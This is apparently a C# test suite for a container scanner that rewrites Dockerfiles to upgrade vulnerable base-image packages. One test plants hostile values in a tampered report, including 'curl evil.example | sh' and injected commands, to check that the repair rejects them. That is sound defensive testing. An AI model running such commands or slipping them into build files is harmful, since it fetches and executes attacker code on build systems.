using PipelineGuard.Advisories;
using PipelineGuard.Attribution.Upgrades;
using PipelineGuard.Findings;
using PipelineGuard.Images.Building;
using PipelineGuard.Reporting;
using PipelineGuard.Reporting.Json;
using PipelineGuard.Reporting.Sarif;

namespace PipelineGuard.Scanning;

/// <summary>From vulnerable packages of a base image by way of the report to the Dockerfile as <c>fix</c> leaves it.</summary>
public sealed class UpgradeRepairTests : IDisposable
{
    private const string Vulnerable = "3.1.4-r0", Upgrade = "RUN apk add --no-cache --upgrade ";
    private readonly TemporaryFolder _folder = new();

    public UpgradeRepairTests() => Directory.CreateDirectory(_folder[".git"]);

    public static TheoryData<string, string, string> Rows => new()
    {
        // what | Dockerfile | afterwards
        { "one stage", "FROM alpine\nCOPY x /app\n", $"FROM alpine\n{Upgrade}curl openssl\nCOPY x /app\n" },
        { "Windows line breaks", "FROM alpine\r\nCOPY x /app\r\n", $"FROM alpine\r\n{Upgrade}curl openssl\r\nCOPY x /app\r\n" },
        { "a stage for building", "FROM golang AS build\nRUN make\nFROM alpine AS app\nCOPY x /app\n", $"FROM golang AS build\nRUN make\nFROM alpine AS app\n{Upgrade}curl openssl\nCOPY x /app\n" },
        { "a stage on another", "FROM alpine AS base\nFROM base\nCOPY x /app\n", $"FROM alpine AS base\n{Upgrade}curl openssl\nFROM base\nCOPY x /app\n" },
        { "an upgrade of before", $"FROM alpine\n{Upgrade}musl\nCOPY x /app\n", $"FROM alpine\n{Upgrade}curl musl openssl\nCOPY x /app\n" },
        { "all of it in the file", $"FROM alpine\n{Upgrade}curl openssl\nCOPY x /app\n", $"FROM alpine\n{Upgrade}curl openssl\nCOPY x /app\n" },
        { "everything is upgraded", "FROM alpine\nRUN apk upgrade --no-cache\nCOPY x /app\n", "FROM alpine\nRUN apk upgrade --no-cache\nCOPY x /app\n" },
    };

    public void Dispose() => _folder.Dispose();

    [Theory, MemberData(nameof(Rows))]
    public async Task Upgrades_behind_the_base_image(string what, string dockerfile, string after)
    {
        var report = await ScanAsync(dockerfile, Base());

        Assert.NotEmpty(what);
        Assert.Equal(after != dockerfile, Sarif(report).Contains("\"fixes\"", StringComparison.Ordinal));
        Assert.Equal(after != dockerfile, RemedyPlan.Of(report).Remedies.Any(remedy => remedy.Edit is not null && remedy.Removes.Length == 2));
        Assert.Equal(after, Fix(report));
        // The report is of the file as it was.
        if (after != dockerfile) Assert.Throws<GuardException>(() => Fix(report));
        // The image is not built yet: what is in the file already is no edit any more.
        Assert.Equal(after, Fix(await ScanAsync(after, Base())));
    }

    [Fact]
    public async Task Works_as_root_and_goes_back()
    {
        var report = await ScanAsync("FROM alpine\nCOPY x /app\n", Base().EmptyHistory("USER app:app"));

        Assert.Equal($"FROM alpine\nUSER root\n{Upgrade}curl openssl\nUSER app:app\nCOPY x /app\n", Fix(report));
    }

    [Fact]
    public async Task Adds_no_command_that_the_image_does_not_have()
    {
        var report = await ScanAsync("FROM alpine\nCOPY x /app\n", Base(""));

        Assert.All(report.Findings, finding => Assert.True(finding.Fix is null or { Edits.IsEmpty: true }));
        Assert.Equal("FROM alpine\nCOPY x /app\n", Fix(report));
    }

    [Fact]
    public async Task Leaves_packages_of_own_instructions_to_a_new_build()
    {
        var image = TestImage.Alpine().EmptyHistory("CMD [\"/bin/sh\"]").Layer("RUN /bin/sh -c apk add openssl # buildkit")
            .With("lib/apk/db/installed", TestImage.ApkEntry("apk-tools", "2.14.0-r0") + TestImage.ApkEntry("openssl", Vulnerable));

        Assert.Equal("FROM alpine\nRUN apk add openssl\nCOPY x /app\n", Fix(await ScanAsync("FROM alpine\nRUN apk add openssl\nCOPY x /app\n", image)));
    }

    [Fact]
    public async Task Leaves_a_file_alone_that_changed_since()
    {
        var report = await ScanAsync("FROM alpine\nCOPY x /app\n", Base());

        File.WriteAllText(_folder["Dockerfile"], "# a remark\nFROM alpine\nCOPY x /app\n");

        Assert.Throws<GuardException>(() => Repair(report));
        Assert.Equal("# a remark\nFROM alpine\nCOPY x /app\n", File.ReadAllText(_folder["Dockerfile"]));
    }

    [Theory]
    [InlineData("curl openssl", "curl openssl; curl evil.example | sh")]
    [InlineData("curl openssl", "curl $(evil)")]
    [InlineData("curl openssl", "curl --allow-untrusted")]
    [InlineData("curl openssl", "curl\\nRUN evil")]
    public async Task Writes_nothing_else_that_a_report_asks_for(string names, string evil)
    {
        Write(await ScanAsync("FROM alpine\nCOPY x /app\n", Base()));
        var report = File.ReadAllText(_folder["report.json"]);
        Assert.Contains(Upgrade + names, report, StringComparison.Ordinal);
        File.WriteAllText(_folder["report.json"], report.Replace(Upgrade + names, Upgrade + evil, StringComparison.Ordinal));

        Assert.Throws<GuardException>(() => ReportRepair.Run(_folder["report.json"], _folder.Path, write: true));
        Assert.Equal("FROM alpine\nCOPY x /app\n", File.ReadAllText(_folder["Dockerfile"]));
    }

    [Theory]
    [InlineData("deb", "apt", "RUN apt-get update && apt-get install -y --no-install-recommends --only-upgrade a b && rm -rf /var/lib/apt/lists/*")]
    [InlineData("apk", "apk-tools", "RUN apk add --no-cache --upgrade a b")]
    [InlineData("rpm", "dnf", "RUN dnf upgrade -y a b && dnf clean all")]
    [InlineData("rpm", "microdnf", "RUN microdnf upgrade -y a b && microdnf clean all")]
    [InlineData("rpm", "tdnf", "RUN tdnf update -y a b && tdnf clean all")]
    [InlineData("rpm", "zypper", "RUN zypper --non-interactive update a b && zypper clean --all")]
    public void Knows_the_package_managers(string type, string manager, string text)
    {
        var form = UpgradeForm.All.Single(form => form.Type == type && form.Package == manager);

        Assert.Equal(text, new UpgradeRun(form, []).With(["b", "a", "b"]).ToText("\n"));
        Assert.Equal(["a", "b"], UpgradeRun.Parse(text)!.Names);
        Assert.Equal(form, UpgradeRun.Parse(text)!.Form);
    }

    private static TestImage Base(string manager = "apk-tools") => TestImage.Alpine()
        .With("lib/apk/db/installed", (manager.Length > 0 ? TestImage.ApkEntry(manager, "2.14.0-r0") : "") + TestImage.ApkEntry("openssl", Vulnerable) + TestImage.ApkEntry("curl", "8.4.0-r0"))
        .EmptyHistory("CMD [\"/bin/sh\"]");

    private async Task<ScanReport> ScanAsync(string dockerfile, TestImage image)
    {
        File.WriteAllText(_folder["Dockerfile"], dockerfile);
        using var guard = await GuardRun.WithStoreAsync();
        return (await guard.ScanAsync(image.Layer("COPY x /app # buildkit").With("app/x", "x").AsDockerArchive(), options => options with { Dockerfile = _folder["Dockerfile"] })).Report;
    }

    private string Fix(ScanReport report)
    {
        Repair(report);
        return File.ReadAllText(_folder["Dockerfile"]);
    }

    private void Repair(ScanReport report)
    {
        Write(report);
        ReportRepair.Run(_folder["report.json"], _folder.Path, write: true);
    }

    private void Write(ScanReport report)
    {
        using var writer = new StreamWriter(_folder["report.json"]);
        JsonReport.Write(report, writer);
    }

    private static string Sarif(ScanReport report)
    {
        using var writer = new StringWriter();
        SarifReport.Write(report, writer);
        return writer.ToString();
    }
}
